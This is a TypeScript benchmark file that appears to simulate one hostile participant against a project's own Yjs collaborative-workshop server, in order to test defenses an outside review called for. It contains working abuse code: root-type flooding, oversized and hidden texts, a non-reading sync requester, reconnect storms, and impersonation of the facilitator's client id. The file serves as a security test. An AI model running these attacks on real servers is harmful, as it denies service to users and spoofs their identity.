/**
 * One hostile participant, as a process of its own (scenario 7, issue 21). It holds an
 * ordinary participant's token of one workshop and, at once and without pause, runs the
 * attacks an outside review found (items 2–5 and 10), each as fast as the server lets
 * it, reconnecting the moment a connection is closed:
 *
 * - roots: updates that create hundreds of top-level types each (Yjs encodes root types
 *   quadratically: a few thousand made every later full sync take seconds);
 * - fill: notes with texts far over the 500-character limit, and texts in roots the UI
 *   never shows, to reach `board-full`;
 * - reader: a connection that asks for the whole board again and again and never reads;
 * - claim: presence and updates under the honest facilitator's Yjs client id;
 * - reconnect: every connection comes back at once after a close (1013 included).
 *
 * Started by bench/scenarios/one-attacker.ts with `fork`; told to stop over IPC, it
 * answers with what it sent and how the server answered.
 */
import * as decoding from 'lib0/decoding';
import * as encoding from 'lib0/encoding';
import WebSocket from 'ws';
import * as awarenessProtocol from 'y-protocols/awareness';
import * as syncProtocol from 'y-protocols/sync';
import * as Y from 'yjs';

export interface AttackSpec {
  /** ws://host:port/rt/yjs/<id>?token=… */
  yjsUrl: string;
  participantId: string;
  stepId: string;
  /** The attacker's own address (its room's), which the server counts connections by. */
  localAddress: string;
}

export interface AttackReport {
  sent: Record<string, number>;
  /** Connections opened (first ones and reconnects) and how they were closed, by code. */
  opened: number;
  closes: Record<string, number>;
  /** Refusals (y-protocols auth messages) heard, by reason. */
  denied: Record<string, number>;
}

const MESSAGE_SYNC = 0;
const MESSAGE_AWARENESS = 1;
const MESSAGE_AUTH = 2;
const ROOTS_PER_UPDATE = 400;
const FILL_TEXT_CHARS = 60_000;
const SYNC_REQUESTS_PER_BURST = 60;

const report: AttackReport = { sent: {}, opened: 0, closes: {}, denied: {} };
const count = (table: Record<string, number>, key: string) => {
  table[key] = (table[key] ?? 0) + 1;
};
let stopping = false;
const sockets = new Set<WebSocket>();

function message(type: number, write: (e: encoding.Encoder) => void): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, type);
  write(e);
  return encoding.toUint8Array(e);
}

const updateMessage = (update: Uint8Array) =>
  message(MESSAGE_SYNC, (e) => syncProtocol.writeUpdate(e, update));

/**
 * A connection that reconnects at once whenever it closes, and runs `tick` every
 * `everyMs` while open. `onMessage` sees what the server sends (unless it never reads).
 */
function persistent(
  spec: AttackSpec,
  name: string,
  everyMs: number,
  tick: (ws: WebSocket) => void,
  options: { read?: boolean; onOpen?: (ws: WebSocket) => void } = {},
): void {
  const open = () => {
    if (stopping) return;
    const ws = new WebSocket(spec.yjsUrl, { localAddress: spec.localAddress });
    sockets.add(ws);
    report.opened++;
    let timer: NodeJS.Timeout | null = null;
    ws.binaryType = 'nodebuffer';
    ws.on('open', () => {
      options.onOpen?.(ws);
      // A reader that stops reading: the kernel's buffers fill, then the server's.
      if (options.read === false) (ws as unknown as { _socket: { pause(): void } })._socket.pause();
      timer = setInterval(() => {
        if (ws.readyState === WebSocket.OPEN) tick(ws);
      }, everyMs);
    });
    ws.on('message', (data: Buffer) => {
      const d = decoding.createDecoder(new Uint8Array(data));
      if (decoding.readVarUint(d) !== MESSAGE_AUTH) return;
      decoding.readVarUint(d); // permission denied
      count(report.denied, decoding.readVarString(d));
    });
    ws.on('error', () => undefined);
    ws.on('close', (code) => {
      sockets.delete(ws);
      if (timer) clearInterval(timer);
      count(report.closes, `${name} ${code}`);
      setImmediate(open);
    });
  };
  open();
}

function send(ws: WebSocket, kind: string, data: Uint8Array): void {
  count(report.sent, kind);
  ws.send(data);
}

function attack(spec: AttackSpec): void {
  let rootSeq = 0;
  // Item 2: hundreds of new root types in every update.
  persistent(spec, 'roots', 50, (ws) => {
    const doc = new Y.Doc();
    doc.transact(() => {
      for (let i = 0; i < ROOTS_PER_UPDATE; i++) doc.getMap(`r${rootSeq++}`).set('x', 1);
    });
    send(ws, 'roots', updateMessage(Y.encodeStateAsUpdate(doc)));
    doc.destroy();
  });

  // Item 4: oversized notes, and large texts where the UI never looks.
  let noteSeq = 0;
  persistent(spec, 'fill', 100, (ws) => {
    const doc = new Y.Doc();
    const n = noteSeq++;
    doc.transact(() => {
      const note = new Y.Map<unknown>();
      note.set('stepId', spec.stepId);
      note.set('lane', 'customerThinks');
      note.set('authorId', spec.participantId);
      note.set('createdAt', Date.now());
      note.set('text', new Y.Text('x'.repeat(FILL_TEXT_CHARS)));
      doc.getMap('notes').set(`attack-${n}`, note);
      doc.getText(`hidden-${n}`).insert(0, 'y'.repeat(FILL_TEXT_CHARS));
    });
    send(ws, 'fill', updateMessage(Y.encodeStateAsUpdate(doc)));
    doc.destroy();
  });

  // Item 3: the whole board asked for, again and again, by a connection that never reads.
  persistent(
    spec,
    'reader',
    500,
    (ws) => {
      const empty = new Y.Doc();
      const request = message(MESSAGE_SYNC, (e) => syncProtocol.writeSyncStep1(e, empty));
      for (let i = 0; i < SYNC_REQUESTS_PER_BURST; i++) send(ws, 'reader', request);
      empty.destroy();
    },
    { read: false },
  );

  // Item 5: presence and edits under a client id seen in others' presence.
  const seen = new Set<number>();
  persistent(
    spec,
    'claim',
    250,
    (ws) => {
      for (const victim of seen) {
        const doc = new Y.Doc();
        doc.clientID = victim;
        const awareness = new awarenessProtocol.Awareness(doc);
        awareness.setLocalState({ presence: { name: 'Fran', role: 'facilitator' } });
        const update = awarenessProtocol.encodeAwarenessUpdate(awareness, [victim]);
        send(
          ws,
          'claim',
          message(MESSAGE_AWARENESS, (e) => encoding.writeVarUint8Array(e, update)),
        );
        doc.getMap('notes').set(`claimed-${Date.now()}`, new Y.Map());
        send(ws, 'claim', updateMessage(Y.encodeStateAsUpdate(doc)));
        awareness.destroy();
        doc.destroy();
      }
    },
    {
      onOpen: (ws) =>
        ws.on('message', (data: Buffer) => {
          const d = decoding.createDecoder(new Uint8Array(data));
          if (decoding.readVarUint(d) !== MESSAGE_AWARENESS) return;
          const u = decoding.createDecoder(decoding.readVarUint8Array(d));
          for (let n = decoding.readVarUint(u); n > 0; n--) {
            seen.add(decoding.readVarUint(u));
            decoding.readVarUint(u);
            decoding.readVarString(u);
          }
        }),
    },
  );
}

process.on('message', (msg: { type: 'start'; spec: AttackSpec } | { type: 'stop' }) => {
  if (msg.type === 'start') {
    attack(msg.spec);
    process.send!({ type: 'started' });
  } else {
    stopping = true;
    for (const ws of sockets) ws.terminate();
    process.send!({ type: 'report', report }, () => process.exit(0));
  }
});
